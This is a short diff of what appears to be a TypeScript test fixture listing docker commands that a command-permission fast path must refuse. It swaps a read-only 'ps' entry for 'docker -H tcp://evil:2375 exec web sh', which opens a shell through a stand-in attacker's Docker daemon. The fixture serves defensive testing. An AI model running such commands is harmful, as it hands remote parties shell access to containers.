@@ -216,8 +216,8 @@ const REFUSE: Record<string, string[]> = {
     "docker inspect api",
     "docker compose config",
     "docker exec api ls",
-    "docker -H tcp://evil:2375 ps",
-    "docker --context prod ps",
+    // (docker -H / --context pick a daemon; its read verbs are allowed: tests/fastpath/cloud-and-vcs.test.ts)
+    "docker -H tcp://evil:2375 exec web sh",
     "docker run --rm alpine",
     "docker save img",
   ],
